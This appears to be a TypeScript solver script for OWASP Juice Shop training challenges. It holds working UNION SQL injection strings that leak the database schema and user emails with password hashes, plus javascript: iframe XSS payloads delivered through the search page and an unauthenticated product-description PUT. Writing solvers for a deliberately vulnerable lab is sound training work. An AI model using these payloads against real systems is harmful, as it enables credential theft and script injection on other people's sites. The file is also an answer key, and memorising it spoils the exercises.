import type { Game, Step } from './client.ts';

/** The DOM XSS payload of the challenge descriptions. */
const IFRAME = '<iframe src="javascript:alert(`xss`)">';
/** The soundcloud player the Bonus Payload challenge asks for (its description quotes it). */
const BONUS =
  '<iframe width="100%" height="166" scrolling="no" frameborder="no" allow="autoplay" src="https://w.soundcloud.com/player/?url=https%3A//api.soundcloud.com/tracks/771984076&color=%23ff5500&auto_play=true&hide_related=false&show_comments=true&show_user=true&show_reposts=false&show_teaser=true"></iframe>';

/** The product search, whose `q` goes into the SQL statement as it is. */
const search = (game: Game, q: string) => game.ok(`/rest/products/search?q=${encodeURIComponent(q)}`);

/**
 * Opens the search results page for `q` in Chromium: the page writes `q` into the DOM as HTML and
 * reports it over its socket; the shop's notification of the solve (`name`) coming back to the page
 * proves the report arrived.
 */
async function searchInBrowser(game: Game, q: string, name: string) {
  const { context, page } = await game.page();
  try {
    // the javascript: iframe alerts; Playwright dismisses dialogs nobody listens to
    await page.goto(`${game.url}/search?q=${encodeURIComponent(q)}`);
    await page.locator('.challenge-solved-toast', { hasText: name }).waitFor();
  } finally {
    await context.close();
  }
}

/** Fetches a page, then the image of it whose address matches `pattern` (as a browser showing it would). */
async function loadImageOf(game: Game, pagePath: string, pattern: RegExp) {
  const { text } = await game.ok(pagePath);
  const src = text.match(pattern)?.[0];
  if (!src) throw new Error(`no image matching ${pattern} on ${pagePath}`);
  await game.ok(src);
  return text;
}

export const steps: Step[] = [
  {
    // 9 columns, as the UNION must match the product rows; sqlite_master holds every CREATE statement
    solves: ['dbSchemaChallenge'],
    run: async (game) => {
      const { json } = await search(game, "')) UNION SELECT sql,'2','3','4','5','6','7','8','9' FROM sqlite_master--");
      if (!JSON.stringify(json).includes('CREATE TABLE `Users`')) throw new Error('the schema did not leak');
    },
  },
  {
    // the Users columns the schema above revealed: every email with its unsalted MD5 hash
    solves: ['unionSqlInjectionChallenge'],
    run: async (game) => {
      const { json } = await search(game, "qwert')) UNION SELECT id,'2','3',email,password,'6','7','8','9' FROM Users--");
      if (!JSON.stringify(json).includes('admin@juice-sh.op')) throw new Error('the users did not leak');
    },
  },
  {
    // reported by the search page itself: it needs the browser
    solves: ['localXssChallenge'],
    run: (game) => searchInBrowser(game, IFRAME, 'DOM XSS'),
  },
  {
    solves: ['xssBonusChallenge'],
    run: (game) => searchInBrowser(game, BONUS, 'Bonus Payload'),
  },
  {
    // a query that breaks the SQL: the error reaches the client with its stack
    solves: ['errorHandlingChallenge'],
    run: async (game) => {
      const r = await game.call(`/rest/products/search?q=${encodeURIComponent("apple'))")}`, { headers: { accept: 'application/json' } });
      if (r.status !== 500) throw new Error(`expected 500, got ${r.status}`);
    },
  },
  {
    // visiting the policy loads its padding image, which the shop watches
    solves: ['privacyPolicyChallenge'],
    run: async (game) => {
      await loadImageOf(game, '/privacy-security/privacy-policy', /\/assets\/public\/images\/padding\/81px\.png/);
    },
  },
  {
    // the policy's highlighted phrases, read in order, spell the secret address
    solves: ['privacyPolicyProofChallenge'],
    run: async (game) => {
      const { text } = await game.ok('/privacy-security/privacy-policy');
      const phrases = [...text.matchAll(/class="hot[^"]*">([^<]+)</g)].map((m) => m[1]!);
      if (phrases.length === 0) throw new Error('no highlighted phrases in the policy');
      const proof = `/${phrases.join(' ').toLowerCase().split(/\s+/).join('/')}`;
      // the thank-you image answers 404 (upstream's missing file); the request itself is the proof
      await game.call(proof);
    },
  },
  {
    // the 3D-printed logo's blueprint sits next to its product image (its EXIF names OpenSCAD)
    solves: ['retrieveBlueprintChallenge'],
    run: async (game) => {
      const { json } = await search(game, '3D-printed');
      const logo = (json.data as Array<{ name: string; image: string }>).find((p) => p.name.includes('3D-printed'));
      if (!logo) throw new Error('no 3D-printed product found');
      await game.ok('/assets/public/images/products/JuiceShop.stl');
    },
  },
  {
    // the Klingon translation, deployed but left out of the language list
    solves: ['extraLanguageChallenge'],
    run: async (game) => {
      await game.ok('/assets/i18n/tlh_AA.json');
    },
  },
  {
    // PUT /api/Products/:id needs no login and stores the description as it is; the original goes
    // back afterwards so that other players' pages don't run the payload
    solves: ['restfulXssChallenge'],
    run: async (game) => {
      const { json } = await game.ok('/api/Products/1');
      const original = json.data.description as string;
      await game.ok('/api/Products/1', { method: 'PUT', body: { description: IFRAME } });
      await game.ok('/api/Products/1', { method: 'PUT', body: { description: original } });
    },
  },
];
